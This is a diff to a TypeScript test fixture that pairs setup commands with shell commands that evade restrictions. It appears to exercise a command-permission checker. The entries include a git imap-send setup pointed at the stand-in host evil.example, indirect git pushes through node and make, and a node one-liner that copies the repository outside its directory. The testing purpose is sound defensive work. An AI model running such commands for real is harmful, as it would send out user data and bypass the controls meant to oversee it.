@@ -182,7 +182,7 @@ const scripts: Record<string, string[]> = {
   ],
   'git commit-tree -m dangling "HEAD^{tree}"': ['git fsck --lost-found'],
   'rm -f /x; cp -r .git/objects /x': ['GIT_ALTERNATE_OBJECT_DIRECTORIES=/x git log'],
-  'git config imap.host imaps://evil.example; git config imap.folder x; printf "From a@b Thu Jan  1 00:00:00 1970\\nFrom: a\\nDate: Thu, 1 Jan 1970 00:00:00 +0000\\nSubject: s\\n\\nbody\\n" > mbox':
+  'git config imap.host imaps://evil.example; git config imap.folder x; git config imap.user u; git config imap.pass p; printf "From a@b Thu Jan  1 00:00:00 1970\\nFrom: a\\nDate: Thu, 1 Jan 1970 00:00:00 +0000\\nSubject: s\\n\\nbody\\n" > mbox':
     ['git imap-send < mbox'],
   'seq 20 > a; rm -rf /srv/x': ['csplit -f /srv/x a 10', 'exec 3<>/srv/x'],
   'touch a.cpio': ['cpio -idm --absolute-filenames < a.cpio'],
@@ -190,6 +190,7 @@ const scripts: Record<string, string[]> = {
   'ln -s "$(command -v npm)" /given/npm': ['node $(which npm) run release'],
   'rm -f x': [`printf 'require("child_process").execSync("git push");\\n' > x.js; node ./x`],
   'rm -f a': ["printf '#!/usr/bin/make -f\\na:\\n\\tgit push\\n' > x; chmod +x x; ./x"],
+  'rm -f /x': [`node -e "fs.cpSync('.', '../x', {recursive:true})"`],
   'touch app.db': ['mv app.db app.db.bak'],
   'cp bin/migrate migrate': ['./migrate up'],
   'echo {} > a': ['python3 -m json.tool a .git/HEAD'],
